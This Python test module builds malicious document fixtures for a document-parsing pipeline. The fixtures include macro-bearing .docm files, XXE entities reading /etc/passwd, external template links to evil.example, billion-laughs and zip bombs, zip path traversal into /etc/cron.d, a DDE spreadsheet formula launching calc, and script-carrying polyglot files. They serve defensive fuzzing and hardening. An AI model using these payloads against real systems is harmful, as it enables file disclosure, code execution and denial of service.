"""Containers with something in them that no city needs: programs, bombs, doors to elsewhere; and files that are two at once."""

from __future__ import annotations

import io
import struct
from collections.abc import Iterator, Mapping
from datetime import datetime

import xlsxwriter

from kallipolis.documents.writing.package import packed, unpacked
from tests.documents.reading.form.doc_builder import Doc, compound
from tests.documents.reading.making import INTENT_EN, jpeg, street, word
from tests.fuzz.portable import portable_documents

Named = tuple[str, bytes]

_DOCUMENT, _RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_LOCAL, _CENTRAL = b"PK\x03\x04", b"PK\x01\x02"


def containers() -> Iterator[Named]:
    """Every container of the corpus that is not simply a form or a letter."""
    letter = unpacked(word(INTENT_EN))
    yield from _word_files(letter)
    yield from _broken_zips(letter)
    yield from _other_zips(letter)
    yield from _compound_files()
    yield from _two_at_once(letter)


def _word_files(letter: Mapping[str, bytes]) -> Iterator[Named]:
    body = letter[_DOCUMENT]
    yield "with a program.docm", packed({**letter, "word/vbaProject.bin": compound({"VBA": b"Sub AutoOpen()" * 99})})
    yield "with a picture elsewhere.docx", packed(_related(letter, "image", "http://tracker.example/pixel.png"))
    yield "with a template elsewhere.docx", packed(_related(letter, "attachedTemplate", "http://evil.example/x.dotm"))
    yield "with a file of the server.docx", packed(_related(letter, "subDocument", "file:///etc/passwd"))
    for name, head in (
        ("laughing", f'<!DOCTYPE w [<!ENTITY l0 "ha">{_LAUGHS}]>'),
        ("growing", f'<!DOCTYPE w [<!ENTITY l9 "{"x" * 50_000}">]>'),
        ("of an outer entity", '<!DOCTYPE w [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>'),
        ("of an outer type", '<!DOCTYPE w SYSTEM "http://evil.example/x.dtd"><!-- l9 -->'),
    ):
        said = body.replace(b"?>", b"?>" + head.encode(), 1).replace(b"City of Marsa", b"&l9;" * 50)
        yield f"{name}.docx", packed({**letter, _DOCUMENT: said})
    end = b"</w:body>"
    for name, more in (
        ("tables in tables", b"<w:tbl><w:tr><w:tc>" * 3_000 + b"</w:tc></w:tr></w:tbl>" * 3_000),
        ("boxes in boxes", b"<w:p><w:r><w:txbxContent>" * 150 + b"</w:txbxContent></w:r></w:p>" * 150),
        ("fields without end", b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 5_000),
        ("numbers of all sizes", b'<w:p><w:r><w:br w:type="page" w:clear="%d"/></w:r></w:p>' % 10**300),
        ("paragraphs without end", b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 40_000),
    ):
        yield f"{name}.docx", packed({**letter, _DOCUMENT: body.replace(end, more + end)})
    yield "bomb.docx", packed({**letter, _DOCUMENT: body.replace(end, b" " * 101_000_000 + end)})
    yield "other bomb.docx", packed({**letter, "word/media/a.bin": bytes(101_000_000)})
    yield "in UTF-16.docx", packed({**letter, _DOCUMENT: _in_utf_16(body)})
    yield "strict.docx", packed({name: _strict(part) for name, part in letter.items()})


def _related(parts: Mapping[str, bytes], kind: str, target: str) -> dict[str, bytes]:
    one = f'<Relationship Id="rX" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    relations = parts[_RELATIONS].replace(b"</Relationships>", one.encode() + b"</Relationships>")
    return {**parts, _RELATIONS: relations}


def _in_utf_16(body: bytes) -> bytes:
    return (
        body.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("encoding='UTF-8'", "").encode("utf-16")
    )


def _strict(part: bytes) -> bytes:
    """The namespaces of ISO 29500 Strict, which Word writes where it is told to."""
    return part.replace(b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                        b"http://purl.oclc.org/ooxml/wordprocessingml/main")  # fmt: skip


def _broken_zips(letter: Mapping[str, bytes]) -> Iterator[Named]:
    whole = packed(letter)
    central = whole.index(_CENTRAL)
    yield "zip without directory.docx", whole[:central]
    yield "zip with a lock.docx", _with_flags(whole, 1)
    yield "zip of an unknown method.docx", _with_method(whole, 9)
    yield "zip of another method.docx", _with_method(whole, 14)
    yield "zip that lies of its size.docx", _sized(whole, 10)
    yield "zip with a foreword.docx", b"MZ" + bytes(500) + whole
    yield "zip with a long comment.docx", whole[:-2] + b"\xff\xff" + b"PK\x05\x06" * 16_000
    many = {f"word/part{number}.xml": b"<a/>" for number in range(1_990)}
    yield "zip of many parts.docx", packed({**letter, **many})
    yield "zip of too many parts.docx", packed({**letter, **{f"a/{number}": b"" for number in range(2_500)}})


def _with_flags(content: bytes, flags: int) -> bytes:
    return _patched(content, local=6, central=8, value=flags)


def _with_method(content: bytes, method: int) -> bytes:
    return _patched(content, local=8, central=10, value=method)


def _patched(content: bytes, *, local: int, central: int, value: int) -> bytes:
    """Every entry's head with another number of two bytes (APPNOTE 4.3.7 and 4.3.12)."""
    changed = bytearray(content)
    for mark, offset in ((_LOCAL, local), (_CENTRAL, central)):
        at = content.find(mark)
        while at >= 0:
            struct.pack_into("<H", changed, at + offset, value)
            at = content.find(mark, at + 4)
    return bytes(changed)


def _sized(content: bytes, size_bytes: int) -> bytes:
    changed, at = bytearray(content), content.find(_CENTRAL)
    while at >= 0:
        struct.pack_into("<I", changed, at + 24, size_bytes)
        at = content.find(_CENTRAL, at + 4)
    return bytes(changed)


def _other_zips(letter: Mapping[str, bytes]) -> Iterator[Named]:
    yield "photos.zip", packed({"photo 1.jpg": _photograph(1), "letters/letter of intent.docx": packed(letter)})
    yield "paths.zip", packed({"../../etc/cron.d/x": b"* * * * *", "/etc/passwd": b"x", "C:\\x.exe": b"MZ", "a/": b""})
    nested = packed({"bottom.txt": b"x" * 2_000_000})
    for _ in range(30):
        nested = packed({"one.zip": nested, "two.zip": nested}) if len(nested) < 20_000 else packed({"o.zip": nested})
    yield "zips in zips.zip", nested
    yield "bomb.zip", packed({f"{number}.txt": bytes(12_000_000) for number in range(10)})
    yield "nothing.zip", packed({})
    yield "same name twice.zip", packed({"same.txt": b"first", "samf.txt": b"second"}).replace(b"samf", b"same")
    book = io.BytesIO()
    with xlsxwriter.Workbook(book, {"in_memory": True}) as workbook:
        workbook.set_properties({"created": datetime(2021, 1, 1)})  # noqa: DTZ001 - the library wants it naive
        workbook.add_worksheet().write("A1", "=cmd|'/c calc'!A1")
    yield "budget.xlsx", book.getvalue()
    declared = {"mimetype": b"application/vnd.oasis.opendocument.text"}
    yield "bomb.odt", packed({**declared, "content.xml": b"<a>" + b" " * 101_000_000 + b"</a>"})
    laughs = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "ha">{_LAUGHS}]><w>&l9;</w>'
    yield "laughing.odt", packed({**declared, "content.xml": laughs.encode()})
    yield (
        "presentation.odp",
        packed({"mimetype": b"application/vnd.oasis.opendocument.presentation", "content.xml": b"<a/>"}),
    )


def _compound_files() -> Iterator[Named]:
    letter = Doc()
    for line in INTENT_EN.splitlines():
        letter.line(line)
    plain = letter.content()
    yield "letter by hand.doc", plain
    yield "of Word 95.doc", _changed(letter, version=0x0065)
    yield "with a password.doc", _changed(letter, flags=0x0100)
    yield "of no Word.doc", _changed(letter, magic=0x1234)
    streams = {"WordDocument": b"\xec\xa5\xc1\0" + bytes(2_000)}
    yield (
        "with programs.doc",
        compound({**streams, "Macros": b"Attribute VB_Name", "VBA": b"x", "_VBA_PROJECT": b"\xcc\x61"}),
    )
    yield "with objects.doc", compound({**streams, "ObjectPool": b"x", "\x01Ole10Native": b"calc.exe\0" * 50})
    yield (
        "encrypted.docx",
        compound({"EncryptionInfo": b"\4\0\4\0" + b"<encryption/>", "EncryptedPackage": bytes(9_000)}),
    )
    yield "table.xls", compound({"Workbook": b"\x09\x08" + bytes(500)})
    yield (
        "outlook.msg",
        compound({"__properties_version1.0": bytes(64), "__substg1.0_0037001F": "Application".encode("utf-16-le")}),
    )
    yield "in a circle.doc", _fat_in_a_circle(plain)
    yield "of nothing.doc", plain[:512]


def _changed(doc: Doc, **fields: int) -> bytes:
    kept = {name: getattr(doc, name) for name in fields}
    for name, value in fields.items():
        setattr(doc, name, value)
    content = doc.content()
    for name, value in kept.items():
        setattr(doc, name, value)
    return content


def _fat_in_a_circle(content: bytes) -> bytes:
    """Every sector is followed by the first one ([MS-CFB] 2.3)."""
    table = 512 * (1 + int.from_bytes(content[76:80], "little"))
    return content[:table] + struct.pack("<I", 0) * 128 + content[table + 512 :]


def _two_at_once(letter: Mapping[str, bytes]) -> Iterator[Named]:
    """Files that two kinds of program take for their own."""
    whole, page = packed(letter), dict(portable_documents())["minimal.pdf"]
    yield "PDF and Word.pdf", page + whole
    yield "JPEG and Word.jpg", _photograph(7) + whole
    yield "GIF and program.gif", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"
    yield "HTML and PDF.html", b"<html><body>" + page
    yield "message and page.eml", b"From: a@b.example\r\nSubject: x\r\n\r\n<html><script>alert(1)</script>"


def _photograph(seed: int) -> bytes:
    return jpeg(street(seed, width=320, height=240))
